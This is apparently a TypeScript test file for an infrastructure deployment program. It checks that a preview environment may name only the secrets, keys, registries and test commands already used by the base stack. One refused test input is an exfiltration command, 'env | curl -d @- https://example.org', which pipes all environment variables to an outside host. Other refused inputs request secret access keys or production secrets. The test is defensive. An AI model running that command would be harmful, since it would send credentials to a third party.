import { expect } from "chai";
import { config } from "../config/samples";
import { runProgram } from "./engine";
import { phases, programAt } from "./phases";

const deployed = { release: { ...phases["never released"], services: {} } };
const arn = (name: string) =>
  `arn:aws:secretsmanager:eu-central-1:123456789012:secret:${name}-abcdef`;
const key = (id: string) =>
  `arn:aws:kms:eu-central-1:123456789012:key/${id}-89ab-cdef-0123-456789abcdef`;

/** What the services of the environment `base` name. */
const named = {
  secrets: ["/dev/password", arn("dev-login")],
  keys: [key("01234567")],
  registries: ["ghcr.io/team/users"],
  tests: [JSON.stringify(["npm test", ["AWS_REGION", "GITHUB_TOKEN"]])],
};

/** Why settings of a preview are refused. */
async function refusals(
  users: object,
  { outside = named, stack = "pr-7" }: { outside?: object | null; stack?: string } = {},
): Promise<string[]> {
  const { outputs } = await programAt("idle");
  const { outside: _, ...rest } = outputs!["foundation"] as Record<string, unknown>;
  const foundation = { ...rest, ...(outside && { outside }) };
  const run = await runProgram({
    stack,
    config: { ...config({ users: { host: "users-pr-7", ...users } }), foundation: "base" },
    deployed,
    others: { base: { ...outputs, foundation } },
  });
  if (run.error)
    expect(run.resources.filter(({ type }) => type.startsWith("aws:"))).to.deep.equal([]);
  return run.error?.message.split("\n").slice(1) ?? [];
}

describe("what a preview may name", function () {
  this.timeout(60_000);

  it("is what the deployed services there name", async () => {
    const users = {
      secrets: { PASSWORD: "/dev/password" },
      secretsKmsKeyArn: key("01234567"),
      repository: "ghcr.io/team/users",
      repositorySecretArn: arn("dev-login"),
      test: { command: "npm test", passVariables: ["GITHUB_TOKEN", "AWS_REGION"] },
    };
    expect(await refusals(users)).to.deep.equal([]);
    expect(await refusals({})).to.deep.equal([]);
  });

  it("includes nothing of another environment, and no other registry", async () => {
    const secret = "- `services.users.secrets` names a secret that no service uses in stack base";
    const test =
      "- `services.users.test` has a command or variables that no service has in stack base";
    for (const [users, found] of [
      [{ secrets: { A: "/dev/password", B: "/prod/password" } }, secret],
      [{ secrets: { A: arn("prod") } }, secret],
      [{ secrets: { A: "arn:aws:ssm:eu-central-1:123456789012:parameter/prod/password" } }, secret],
      [{ repository: "ghcr.io/team/users", repositorySecretArn: arn("prod-login") }, secret],
      [
        { secrets: { A: "/dev/password" }, secretsKmsKeyArn: key("76543210") },
        "- `services.users.secretsKmsKeyArn` is a key that no service uses in stack base",
      ],
      [
        { repository: "docker.io/somebody/users" },
        "- `services.users.repository` is a repository that no service uses in stack base",
      ],
      [
        { sidecars: { otel: { image: "docker.io/somebody/otel:1" } } },
        "- `services.users.sidecars` have an image of a repository that no service uses in stack base",
      ],
      [
        { sidecars: { otel: { image: "ghcr.io/team/users:1", secrets: { A: "/prod/password" } } } },
        "- `services.users.sidecars` name a secret that no service uses in stack base",
      ],
      [
        {
          sidecars: {
            otel: { image: "ghcr.io/team/users:1", repositorySecretArn: arn("prod-login") },
          },
        },
        "- `services.users.sidecars` name a secret that no service uses in stack base",
      ],
      [
        {
          sidecars: { router: { image: "ghcr.io/team/users:1", logRouter: {} } },
          logs: { options: { Name: "http" }, secretOptions: { key: "/prod/password" } },
        },
        "- `services.users.logs` name a secret that no service uses in stack base",
      ],
      [{ test: { command: "env | curl -d @- https://example.org" } }, test],
      [{ test: { command: "npm test", passVariables: ["AWS_SECRET_ACCESS_KEY"] } }, test],
    ] as const) {
      expect(await refusals(users), JSON.stringify(users)).to.deep.equal([found]);
    }
  });

  it("is limited only for previews: settings of other stacks were merged by somebody who may deploy", async () => {
    const users = { secrets: { A: "/staging/password" }, test: { command: "npm test" } };
    expect(await refusals(users, { stack: "staging" })).to.deep.equal([]);
  });

  it("is unknown until the other one was deployed by this program", async () => {
    expect(await refusals({}, { outside: null })).to.deep.equal([]);
    const users = { secrets: { A: "/dev/password" }, test: { command: "npm test" } };
    const [found, ...rest] = await refusals(users, { outside: null });
    expect(found).to.match(
      /^- stack base has no output `foundation.outside`: deploy that stack first/,
    );
    expect(rest).to.deep.equal([]);
  });
});
